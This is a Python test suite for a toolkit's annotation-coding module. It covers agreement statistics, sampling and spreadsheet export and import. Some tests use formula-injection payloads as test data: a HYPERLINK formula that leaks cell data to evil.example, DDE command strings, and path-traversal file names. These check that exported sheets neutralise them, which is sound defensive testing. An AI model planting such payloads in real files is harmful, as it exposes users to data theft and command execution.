"""Tests for toolkit.coding: textbook agreement values, sheets round trip, validation, sampling."""
from __future__ import annotations

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sklearn.metrics import cohen_kappa_score

import toolkit
from toolkit import coding, datasets
from toolkit.lexicon import from_records

NAN = np.nan

# Krippendorff (2011), "Computing Krippendorff's Alpha-Reliability", section C: 4 observers x
# 12 units, values 1-5, missing data. Published: nominal 0.743, ordinal 0.815, interval 0.849.
K2011 = pd.DataFrame({
    "A": [1, 2, 3, 3, 2, 1, 4, 1, 2, NAN, NAN, NAN],
    "B": [1, 2, 3, 3, 2, 2, 4, 1, 2, 5, NAN, 3],
    "C": [NAN, 3, 3, 3, 2, 3, 4, 2, 2, 5, 1, NAN],
    "D": [1, 2, 3, 3, 2, 4, 4, 1, 2, 5, 1, NAN],
})


@pytest.mark.parametrize("level, published", [("nominal", 0.743), ("ordinal", 0.815), ("interval", 0.849)])
def test_krippendorff_2011_worked_example(level, published):
    assert coding.krippendorff_alpha(K2011, level=level) == pytest.approx(published, abs=5e-4)


def test_krippendorff_2011_example_through_agreement_table():
    long = K2011.rename_axis("unit_id").reset_index().melt(id_vars="unit_id", var_name="coder", value_name="code")
    long = long.dropna(subset=["code"]).assign(code=lambda d: d["code"].astype(int).astype(str),
                                              unit_id=lambda d: d["unit_id"].astype(str))
    for level, published, order in (("nominal", 0.743, None), ("ordinal", 0.815, list("12345"))):
        t = coding.agreement(long, level=level, order=order, n_boot=0)
        row = t[t["comparison"] == "all coders"].iloc[0]
        assert row["value"] == pytest.approx(published, abs=5e-4)
        assert row["n_units"] == 11          # unit 12 has one value only: not pairable


def test_binary_alpha_by_hand_from_the_coincidence_matrix():
    # Krippendorff (2011) section A: two coders, ten units, binary.
    a = [0, 1, 0, 0, 0, 0, 0, 0, 1, 0]
    b = [1, 1, 1, 0, 0, 1, 0, 0, 0, 0]
    # Coincidences, each unit's pair counted both ways: five (0,0) units -> o00 = 10, one (1,1)
    # unit -> o11 = 2, four disagreeing units -> o01 = o10 = 4. Marginals n0 = o00 + o01 = 14,
    # n1 = o11 + o10 = 6, n = 20. Nominal binary alpha = 1 - (n - 1) o01 / (n0 n1).

    o01, n0, n1, n = 4, 14, 6, 20
    by_hand = 1 - (n - 1) * o01 / (n0 * n1)
    assert by_hand == pytest.approx(0.095, abs=5e-4)
    assert coding.krippendorff_alpha(pd.DataFrame({"a": a, "b": b})) == pytest.approx(by_hand)


@pytest.mark.parametrize("table", [
    [[20, 5], [10, 15]],      # po = 0.7, pe = 0.5 -> kappa 0.4
    [[45, 15], [25, 15]],     # Wikipedia's example: kappa 0.1304
    [[10, 0], [0, 10]],       # perfect
    [[5, 5], [5, 5]],         # chance level: 0
])
def test_cohen_kappa_2x2_by_hand(table):
    (a, b), (c, d) = table
    n = a + b + c + d
    po = (a + d) / n
    pe = ((a + b) * (a + c) + (c + d) * (b + d)) / n ** 2
    by_hand = (po - pe) / (1 - pe)
    x = ["yes"] * (a + b) + ["no"] * (c + d)
    y = ["yes"] * a + ["no"] * b + ["yes"] * c + ["no"] * d
    assert coding.cohen_kappa(x, y) == pytest.approx(by_hand)
    assert coding.percent_agreement(x, y) == pytest.approx(po)
    long = pd.DataFrame({"unit_id": [f"u{i}" for i in range(n)] * 2, "coder": ["x"] * n + ["y"] * n,
                         "code": x + y})
    row = coding.agreement(long, n_boot=0).set_index("measure")
    assert row.loc["cohen_kappa", "value"] == pytest.approx(by_hand)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.sampled_from("abcd"), st.sampled_from("abcd")), min_size=2, max_size=40),
       st.sampled_from(["nominal", "ordinal"]))
def test_fast_kappa_equals_sklearn(pairs, level):
    x = [p[0] for p in pairs]
    y = [p[1] for p in pairs]
    weights = coding._kappa_weights(level)
    if len(set(x) | set(y)) < 2:
        return
    ref = cohen_kappa_score(x, y, labels=list("abcd"), weights=weights)
    long = pd.DataFrame({"unit_id": [f"u{i}" for i in range(len(x))] * 2,
                         "coder": ["p"] * len(x) + ["q"] * len(x), "code": x + y})
    got = coding.agreement(long, level=level, order=list("abcd"), n_boot=0).set_index("measure")
    if np.isnan(ref):
        assert np.isnan(got.loc["cohen_kappa", "value"])
    else:
        assert got.loc["cohen_kappa", "value"] == pytest.approx(ref)


def test_ordinal_numeric_codes_sort_numerically_and_single_coder_gives_empty_table():
    # Numerically 1 < 2 < 10, so 1 vs 10 is the largest disagreement; in string order
    # ("1" < "10" < "2") it would look like a small one (alpha 0.79 instead of 0.417).
    long = pd.DataFrame({"unit_id": ["u1", "u2", "u3", "u4"] * 2, "coder": ["a"] * 4 + ["b"] * 4,
                         "code": ["1", "1", "10", "2", "1", "10", "10", "2"]})
    table = coding.agreement(long, level="ordinal", n_boot=0)
    got = table[table["comparison"] == "coder-coder"].set_index("measure")["value"]
    wide = pd.DataFrame({"a": [1, 1, 10, 2], "b": [1, 10, 10, 2]})
    ranks = wide.replace({1: 0, 2: 1, 10: 2})
    assert got["krippendorff_alpha"] == pytest.approx(coding.krippendorff_alpha(ranks, level="ordinal"))
    assert got["krippendorff_alpha"] == pytest.approx(5 / 12)
    one = coding.agreement(long[long["coder"] == "a"], n_boot=0)
    assert one.empty and list(one.columns) == coding.AGREEMENT_COLUMNS


def test_bootstrap_interval_brackets_the_estimate_and_is_seeded():
    rng = np.random.default_rng(1)
    truth = rng.choice(list("xyz"), 80)
    rows = []
    for coder, err in (("A", 0.1), ("B", 0.25), ("toolkit", 0.3)):
        for i, t in enumerate(truth):
            rows.append((f"u{i}", coder, t if rng.random() > err else rng.choice(list("xyz"))))
    codes = pd.DataFrame(rows, columns=["unit_id", "coder", "code"])
    t1 = coding.agreement(codes, n_boot=300, seed=3)
    t2 = coding.agreement(codes, n_boot=300, seed=3)
    pd.testing.assert_frame_equal(t1, t2)
    assert (t1["ci_low"] <= t1["value"] + 1e-9).all() and (t1["value"] <= t1["ci_high"] + 1e-9).all()
    assert set(t1["comparison"]) == {"coder-coder", "coder-toolkit", "all coders", "all coders + toolkit"}
    assert set(t1.loc[t1["comparison"] == "coder-toolkit", "coder_b"]) == {"toolkit"}


# ----------------------------------------------------------------------------- adjudication, scores

@pytest.mark.parametrize("codes, tie, lead, gold, is_tie", [
    (["x", "x", "y"], "flag", None, "x", False),
    (["x", "y"], "flag", None, None, True),
    (["x", "y"], "lead", "c0", "x", False),
    (["y", "x", "z"], "lead", "c2", "z", False),
    (["x", "x", "y", "y"], "flag", None, None, True),
    (["x", "y", "z"], "lead", "c1", "y", False),
    (["x", None, None], "flag", None, "x", False),    # one coder only: their code
])
def test_adjudicate_majority_and_tie_rules(codes, tie, lead, gold, is_tie):
    df = pd.DataFrame({"unit_id": "u", "coder": [f"c{i}" for i in range(len(codes))], "code": codes})
    df = pd.concat([df, pd.DataFrame({"unit_id": ["u"], "coder": ["toolkit"], "code": ["y"]})])  # never votes
    out = coding.adjudicate(df, tie=tie, lead=lead).iloc[0]
    assert out["tie"] == is_tie
    assert (pd.isna(out["gold"]) and gold is None) or out["gold"] == gold


def test_toolkit_scores_precision_recall_by_hand():
    gold = pd.DataFrame({"unit_id": ["u1", "u2", "u3", "u4", "u5"],
                         "gold": ["threat", "threat", "none", "none", None],
                         "tie": [False, False, False, False, True]})
    key = pd.DataFrame({"unit_id": ["u1", "u2", "u3", "u4", "u5"],
                        "toolkit_label": ["threat", "none", "threat", "none", "threat"]})
    s = coding.toolkit_scores(gold, key, n_boot=0).set_index(["label", "metric"])["value"]
    # threat: TP u1, FN u2, FP u3 (u5 is a tie: excluded) -> P = 1/2, R = 1/2
    assert s[("threat", "precision")] == pytest.approx(0.5)
    assert s[("threat", "recall")] == pytest.approx(0.5)
    assert s[("macro", "f1")] == pytest.approx(0.5)        # "none" is left out of the macro average
    with_unused = coding.toolkit_scores(gold, key, labels=["threat", "warning", "none"], n_boot=0)
    w = with_unused.set_index(["label", "metric"])["value"]
    assert w[("warning", "f1")] == 0 and w[("macro", "f1")] == pytest.approx(0.5)   # unused code not averaged
    m = coding.confusion_table(gold, key)
    assert m.loc["threat", "none"] == 1 and m.loc["none", "threat"] == 1 and m.to_numpy().sum() == 4


# ----------------------------------------------------------------------------- units, sampling

@pytest.fixture(scope="module")
def sample_tables(sample_analysis):
    """The bundled sample (conftest's session-wide analysis: analysed once per test run)."""
    return sample_analysis


def test_units_offsets_slice_back_and_context(sample_tables):
    a = sample_tables
    labels, cb, what = coding.layer_labels(a.tables, "length")
    assert what.startswith("length") and set(labels) <= set(cb["code"])
    units = coding.prepare_units(a.sentences, labels)
    texts = a.texts()
    assert all(texts[r.doc_id][r.start:r.end] == r.text for r in units.itertuples())
    first = units.groupby("doc_id").head(1)
    assert (first["context_before"] == "").all()
    second = units.iloc[1]
    assert second["context_before"] == units.iloc[0]["text"]
    assert units["unit_id"].is_unique


def test_units_on_the_seed_article_slice_back(seed_text):
    a = toolkit.analyze(datasets.seed(), annotators=[], workers=1)
    units = coding.prepare_units(a.sentences, coding.length_bins(a.sentences["text"]))
    assert len(units) > 5
    assert all(seed_text[r.start:r.end] == r.text for r in units.itertuples())
    sample = coding.draw_sample(units, n=6, seed=1)
    assert sample["unit_id"].isin(units["unit_id"]).all() and len(sample) == 6


def test_layer_labels_keep_table_labels_missing_from_the_codebook(sample_tables):
    a = sample_tables
    ann = pd.DataFrame({"doc_id": [a.sentences["doc_id"].iloc[0]], "start": [a.sentences["start"].iloc[0]],
                        "category": ["ultimatum"]})      # no sent_id: mapped from the offset
    labels, cb, _ = coding.layer_labels(dict(a.tables, custom=ann), "custom")
    assert labels.iloc[0] == "ultimatum" and (labels.iloc[1:] == "none").all()
    assert cb["code"].tolist() == ["ultimatum", "none"]


def test_layer_labels_from_a_lexicon_and_a_table(sample_tables):
    a = sample_tables
    lex = from_records("demo", [{"entry": "warn", "category": "threat"},
                                {"entry": "talk", "category": "cooperation"}])
    hits = lex.find(a.tokens, a.texts())
    labels = coding.sentence_labels(a.sentences, hits, order=["threat", "cooperation"])
    assert {"threat", "none"} <= set(labels)
    joined = a.sentences.assign(label=labels.to_numpy())
    warn_sents = joined[joined["text"].str.contains(r"\bwarn", case=False)]
    assert (warn_sents["label"] != "none").all()
    tables = dict(a.tables, demo=hits)
    lab2, cb, what = coding.layer_labels(tables, "demo")
    assert lab2.tolist() == coding.sentence_labels(a.sentences, hits).tolist()
    assert what.startswith("demo") and cb["code"].tolist()[-1] == "none"
    with pytest.raises(ValueError, match="must be one of"):
        coding.layer_labels(a.tables, "no_such_layer")


def test_sentence_label_tie_goes_to_codebook_order():
    s = pd.DataFrame({"doc_id": ["d"], "sent_id": [0], "start": [0], "end": [10]})
    ann = pd.DataFrame({"doc_id": ["d", "d"], "sent_id": [0, 0], "category": ["warn", "accuse"]})
    assert coding.sentence_labels(s, ann, order=["warn", "accuse"]).tolist() == ["warn"]
    assert coding.sentence_labels(s, ann).tolist() == ["accuse"]           # alphabetical


@pytest.mark.parametrize("sizes, n, allocation, expected", [
    ({"a": 50, "b": 5, "c": 20}, 30, "equal", {"a": 13, "b": 5, "c": 12}),  # b short: rest shared
    ({"a": 50, "b": 5, "c": 20}, 15, "equal", {"a": 5, "b": 5, "c": 5}),
    ({"a": 50, "b": 30, "c": 20}, 10, "proportional", {"a": 5, "b": 3, "c": 2}),
    ({"a": 3, "b": 2}, 100, "equal", {"a": 3, "b": 2}),                     # more than available
])
def test_draw_sample_allocation(sizes, n, allocation, expected):
    units = pd.DataFrame({"unit_id": [f"{k}{i}" for k, v in sizes.items() for i in range(v)],
                          "toolkit_label": [k for k, v in sizes.items() for _ in range(v)]})
    s = coding.draw_sample(units, n=n, allocation=allocation, seed=7)
    assert s["stratum"].value_counts().to_dict() == expected
    assert s["unit_id"].is_unique
    for k, v in expected.items():
        assert s.loc[s["stratum"] == k, "weight"].iloc[0] == pytest.approx(sizes[k] / v)
    again = coding.draw_sample(units, n=n, allocation=allocation, seed=7)
    assert again["unit_id"].tolist() == s["unit_id"].tolist()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.integers(min_value=1, max_value=30), min_size=1, max_size=6),
       st.integers(min_value=0, max_value=120), st.sampled_from(["equal", "proportional"]))
def test_draw_sample_quota_properties(sizes, n, allocation):
    units = pd.DataFrame({"unit_id": [f"s{k}-{i}" for k, v in enumerate(sizes) for i in range(v)],
                          "toolkit_label": [f"s{k}" for k, v in enumerate(sizes) for _ in range(v)]})
    s = coding.draw_sample(units, n=n, allocation=allocation, seed=0)
    got = s["stratum"].value_counts()
    if n == 0:
        assert s.empty
        return
    assert len(s) == min(n, sum(sizes)) if allocation == "equal" else len(s) <= min(n, sum(sizes))
    assert all(got.get(f"s{k}", 0) <= v for k, v in enumerate(sizes))
    if allocation == "equal":
        # A stratum with units left over is never more than one unit behind any other.
        open_ = [got.get(f"s{k}", 0) for k, v in enumerate(sizes) if got.get(f"s{k}", 0) < v]
        assert not open_ or min(open_) >= got.max() - 1
    weight = s.groupby("stratum")["weight"].first()
    assert np.allclose(weight * got.reindex(weight.index), [sizes[int(k[1:])] for k in weight.index])


def test_document_units_take_the_most_frequent_real_label():
    s = pd.DataFrame({"doc_id": ["a", "a", "a", "b"], "sent_id": [0, 1, 2, 0], "start": [0, 5, 10, 0],
                      "end": [4, 9, 14, 3], "text": ["One.", "Two.", "Six.", "Hi."]})
    docs = pd.DataFrame({"doc_id": ["a", "b"], "text": ["One. Two. Six.", "Hi."]})
    u = coding.prepare_units(s, ["threat", "none", "threat"] + ["none"], unit="document", documents=docs)
    assert u[["unit_id", "toolkit_label", "start", "end"]].values.tolist() == [["a", "threat", 0, 14], ["b", "none", 0, 3]]
    with pytest.raises(ValueError, match="documents="):
        coding.prepare_units(s, unit="document")


def test_draw_sample_per_stratum_and_errors():
    units = pd.DataFrame({"unit_id": list("abcdef"), "toolkit_label": list("xxxxyy")})
    assert coding.draw_sample(units, per_stratum=3)["stratum"].value_counts().to_dict() == {"x": 3, "y": 2}
    with pytest.raises(ValueError, match="must be one of"):
        coding.draw_sample(units, stratify="frame")
    with pytest.raises(ValueError, match="must be one of"):
        coding.draw_sample(units, allocation="neyman")


# ----------------------------------------------------------------------------- sheets

CODEBOOK = pd.DataFrame({"code": ["threat", "warning", "none"],
                         "description": ["a conditional threat", "a warning", "no category"]})


@pytest.fixture()
def exported(tmp_path):
    units = pd.DataFrame({
        "unit_id": ["d1:0", "d1:1", "d2:0", "d2:1"], "doc_id": ["d1", "d1", "d2", "d2"],
        "sent_id": [0, 1, 0, 1], "start": [0, 20, 0, 15], "end": [19, 40, 14, 30],
        "context_before": ["", "A warns B.", "", "=SUM(A1)"],
        "text": ["A warns B.", "B will respond.", "=SUM(A1)", "Talks resume."],
        "context_after": ["B will respond.", "", "Talks resume.", ""],
        "toolkit_label": ["warning", "threat", "none", "none"],
        "stratum": ["warning", "threat", "none", "none"], "weight": [1.0, 1.0, 2.0, 2.0]})
    return units, coding.export_sheet(units, tmp_path, codebook=CODEBOOK, coders=["ana"])


def test_export_hides_the_toolkit_label_from_coders(exported):
    units, paths = exported
    sheet = pd.read_csv(paths["csv"], keep_default_na=False)
    assert "toolkit_label" not in sheet.columns and "stratum" not in sheet.columns
    assert (sheet["code"] == "").all() and sheet["text"].tolist()[:2] == units["text"].tolist()[:2]
    key = pd.read_csv(paths["key"])
    assert key["toolkit_label"].tolist() == units["toolkit_label"].tolist()
    wb = load_workbook(paths["xlsx"])
    assert wb.sheetnames == ["coding", "codebook", "instructions"]
    header = [c.value for c in wb["coding"][1]]
    assert "toolkit_label" not in header
    assert [r[0].value for r in wb["codebook"].iter_rows(min_row=2)] == CODEBOOK["code"].tolist()
    assert wb["coding"].data_validations.dataValidation       # drop-down list of codes
    assert wb["coding"]["G4"].value == "=SUM(A1)" and wb["coding"]["G4"].data_type == "s"   # text, not a formula
    assert sheet.loc[2, "text"] == "'=SUM(A1)"                  # CSV: defused for spreadsheets
    back = pd.read_excel(paths["xlsx"], sheet_name="coding")
    assert back["text"].tolist() == units["text"].tolist()     # XLSX keeps the text exactly
    assert paths["xlsx_ana"].exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_filled_sheets_round_trip(exported, tmp_path, fmt):
    units, paths = exported
    filled = coding.simulate_filled_sheets(paths[fmt], paths["key"], tmp_path / "filled", codebook=CODEBOOK,
                                           coders=["A", "B"], error_rate=[0.0, 1.0], seed=0)
    codes = coding.read_sheets(filled, codebook=CODEBOOK, key=paths["key"])
    assert sorted(codes["coder"].unique()) == ["A", "B"]
    wide = coding.reliability_data(codes)
    assert wide["A"].tolist() == units.set_index("unit_id").loc[wide.index, "toolkit_label"].tolist()
    assert (wide["A"] != wide["B"]).all()                       # error rate 1: always another code
    both = coding.with_toolkit(codes, paths["key"])
    t = coding.agreement(both, n_boot=0).set_index(["coder_a", "coder_b", "measure"])["value"]
    assert t[("A", "toolkit", "percent_agreement")] == 1.0
    assert t[("B", "toolkit", "percent_agreement")] == 0.0


def test_read_sheets_names_file_and_row_of_an_unknown_code(exported, tmp_path):
    _, paths = exported
    sheet = pd.read_csv(paths["csv"], keep_default_na=False)
    sheet["code"] = ["threat", "none", "Threat!", "none"]
    bad = tmp_path / "coding_sheet_bo.csv"
    sheet.to_csv(bad, index=False)
    with pytest.raises(coding.CodingError, match=r"coding_sheet_bo\.csv row 4: code value = 'Threat!' is invalid"):
        coding.read_sheets([bad], codebook=CODEBOOK)


def test_read_sheets_xlsx_unknown_code_and_unknown_unit(exported, tmp_path):
    _, paths = exported
    wb = load_workbook(paths["xlsx"])
    ws = wb["coding"]
    code_col = [c.value for c in ws[1]].index("code") + 1
    ws.cell(row=3, column=code_col, value="escalation")
    p = tmp_path / "coding_sheet_cy.xlsx"
    wb.save(p)
    with pytest.raises(coding.CodingError, match=r"coding_sheet_cy\.xlsx row 3: .*'escalation'.*\['threat', 'warning', 'none'\]"):
        coding.read_sheets([p], codebook=CODEBOOK)
    ws.cell(row=3, column=code_col, value="threat")
    ws.cell(row=2, column=1, value="d9:9")
    wb.save(p)
    with pytest.raises(coding.CodingError, match="row 2: unit_id 'd9:9' is not in the key"):
        coding.read_sheets([p], codebook=CODEBOOK, key=paths["key"])


# Values a spreadsheet would run, in every column a user did not type as a formula.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''-1"]


def _hostile_units(tmp_path, *, codebook=None, **kw):
    n = len(HOSTILE)
    units = pd.DataFrame({"unit_id": [f"{h}:{i}" for i, h in enumerate(HOSTILE)], "doc_id": HOSTILE,
                          "sent_id": list(range(n)), "start": [0] * n, "end": [5] * n,
                          "context_before": HOSTILE, "text": HOSTILE[::-1], "context_after": HOSTILE,
                          "toolkit_label": ["=threat", "none"] * (n // 2), "stratum": HOSTILE,
                          "weight": [1.0] * n})
    cb = codebook if codebook is not None else pd.DataFrame({"code": ["=threat", "none"],
                                                             "description": ["=1+1", "@none"]})
    return units, cb, coding.export_sheet(units, tmp_path, codebook=cb, coders=["ana"], **kw)


def _cells(path):
    wb = load_workbook(path)
    return [(ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("which", ["xlsx", "xlsx_ana"])
def test_no_xlsx_cell_is_a_formula_and_every_value_is_kept(tmp_path, which):
    units, _, paths = _hostile_units(tmp_path, code_columns=("=code",), instructions="=HYPERLINK(\"x\")")
    cells = _cells(paths[which])
    assert [f"{t}!{c.coordinate}" for t, c in cells if c.data_type == "f"] == []
    values = {c.value for _, c in cells}
    xml = [h.replace("\r", "\n") for h in HOSTILE]     # XML reads every line break as "\n"
    assert set(xml) <= values and {u.replace("\r", "\n") for u in units["unit_id"]} <= values
    assert {"=threat", "=1+1", "@none", "=code", "=HYPERLINK(\"x\")"} <= values    # codebook, header, instructions
    back = pd.read_excel(paths[which], sheet_name="coding", dtype=object)
    assert back["text"].tolist() == xml[::-1]


@pytest.mark.parametrize("file", ["csv", "key", "codebook"])
def test_no_csv_cell_starts_a_formula_and_the_readers_undo_the_guard(tmp_path, file):
    units, cb, paths = _hostile_units(tmp_path)
    raw = pd.read_csv(paths[file], dtype=str, keep_default_na=False)
    risky = [v for v in [*raw.columns, *raw.to_numpy().ravel()] if v.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky and all(v.startswith("'") for v in risky)
    ids = units["unit_id"].str.replace("\r", "\n")             # as in the XLSX, so the sheets match the key
    assert [coding.spreadsheet_value(v) for v in raw.iloc[:, 0]] == \
        {"csv": ids, "key": ids, "codebook": cb["code"]}[file].tolist()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_ids_and_codes_survive_the_whole_round_trip(tmp_path, fmt):
    units, cb, paths = _hostile_units(tmp_path)
    filled = coding.simulate_filled_sheets(paths[fmt], paths["key"], tmp_path / "filled", codebook=cb,
                                           coders=["A"], error_rate=0.0)
    if fmt == "xlsx":
        assert [c for _, c in _cells(filled[0]) if c.data_type == "f"] == []
    codes = coding.read_sheets(filled, codebook=cb, key=paths["key"])
    assert codes["unit_id"].tolist() == units["unit_id"].str.replace("\r", "\n").tolist()
    assert codes["code"].tolist() == units["toolkit_label"].tolist()     # "=threat" read back as typed
    both = coding.with_toolkit(codes, paths["key"])
    assert (both["coder"] == "toolkit").sum() == len(units)


def test_characters_xlsx_cannot_hold_cost_no_unit(tmp_path):
    units = pd.DataFrame({"unit_id": ["d\x0b1:0", "d2:0"], "doc_id": ["d\x0b1", "d2"],
                          "text": ["Page\x0cbreak and \x00 null.", "Fine."], "toolkit_label": ["none", "none"]})
    paths = coding.export_sheet(units, tmp_path, codebook=["none"])
    back = pd.read_excel(paths["xlsx"], sheet_name="coding", dtype=object)
    assert back["text"].tolist() == ["Page\ufffdbreak and \ufffd null.", "Fine."]
    codes = coding.read_sheets(coding.simulate_filled_sheets(paths["xlsx"], paths["key"], tmp_path / "f",
                                                             codebook=["none"], coders=["A"]),
                               codebook=["none"], key=paths["key"])
    assert codes["unit_id"].tolist() == ["d\ufffd1:0", "d2:0"]


@pytest.mark.parametrize("bad", [{"name": "../x"}, {"name": "a/b"}, {"coders": ["../../etc/ana"]}, {"coders": [".."]}])
def test_sheet_and_coder_names_cannot_leave_the_folder(tmp_path, bad):
    units = pd.DataFrame({"unit_id": ["d:0"], "text": ["Hi."], "toolkit_label": ["none"]})
    with pytest.raises(ValueError, match="becomes part of a file name"):
        coding.export_sheet(units, tmp_path / "out", codebook=["none"], **bad)
    assert not any(tmp_path.rglob("*.xlsx"))


@pytest.mark.parametrize("value", [*HOSTILE, "Kyiv", "'Tis", "", "'", "a=b", "x-1"])
def test_spreadsheet_safe_round_trips(value):
    safe = coding.spreadsheet_safe(value)
    assert coding.spreadsheet_value(safe) == value
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (safe == value) == (not value.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")))


def test_read_sheets_duplicate_unit_and_missing_column(tmp_path):
    p = tmp_path / "s.csv"
    p.write_text("unit_id,code\nu1,none\nu1,threat\n")
    with pytest.raises(coding.CodingError, match="row 3: unit_id 'u1' appears again"):
        coding.read_sheets([p], codebook=CODEBOOK)
    p.write_text("unit_id,label\nu1,none\n")
    with pytest.raises(coding.CodingError, match="missing column 'code'"):
        coding.read_sheets([p], codebook=CODEBOOK)


def test_codebook_from_lexicon_meta():
    lex = from_records("demo", [{"entry": "warn", "category": "warning"}], categories={"warning": "A warning."})
    cb = coding.codebook_from_lexicon(lex)
    assert cb.to_dict("list") == {"code": ["warning", "none"],
                                  "description": ["A warning.", "none of the categories applies"]}
    assert cb.attrs["source"] == "demo@0.0.0"
